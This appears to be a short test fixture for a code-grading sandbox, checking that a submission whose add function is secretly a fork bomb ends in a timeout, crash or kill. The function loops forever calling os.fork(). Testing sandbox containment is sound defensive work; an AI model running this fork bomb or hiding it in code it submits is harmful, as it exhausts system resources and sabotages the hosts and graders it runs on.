"""A fork bomb inside the graded function.
base: stub
expect: timed out|crash|killed|Resource temporarily unavailable
"""
import os


def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
